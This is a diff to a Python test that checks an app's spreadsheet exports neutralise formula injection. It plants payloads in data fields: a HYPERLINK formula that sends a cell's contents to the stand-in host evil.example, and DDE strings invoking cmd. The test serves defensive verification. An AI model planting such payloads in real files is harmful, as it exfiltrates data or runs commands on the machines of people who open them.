@@ -90,6 +90,7 @@ def test_it_writes_what_would_be_a_formula_as_text_in_every_workbook(plan: Plan,
     attack = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
     target = plan.targets.get(code="1.3.3")
     Observation.objects.filter(target=target).update(source=attack)
+    plan.targets.filter(code="1.1.4").update(indicator_text=attack)  # the demo now judges 1.3.3 on an outcome
     plan.targets.filter(code="1.1.2").update(indicator_text="+1+cmd|' /C calc'!A0")
     Unit.objects.filter(name="金华市商务局").update(name="@SUM(1+1)*cmd|' /C calc'!A0")
     Unit.objects.filter(name="金华市统计局").update(name="-2+3")
@@ -111,5 +112,5 @@ def test_it_writes_what_would_be_a_formula_as_text_in_every_workbook(plan: Plan,
                         assert cell.quotePrefix, f"{sheet.title}!{cell.coordinate} would become a formula when edited"
                         seen.add(cell.value[:1])
     assert seen == {"=", "+", "-", "@"}  # each attack did reach a workbook, as text
-    evaluation = load_workbook(io.BytesIO(workbooks[1]))["年终评定"]
-    assert any(c.value == attack for row in evaluation.iter_rows() for c in row)
+    breakdown = load_workbook(io.BytesIO(workbooks[0]))
+    assert any(attack in str(c.value) for sheet in breakdown.worksheets for row in sheet.iter_rows() for c in row)
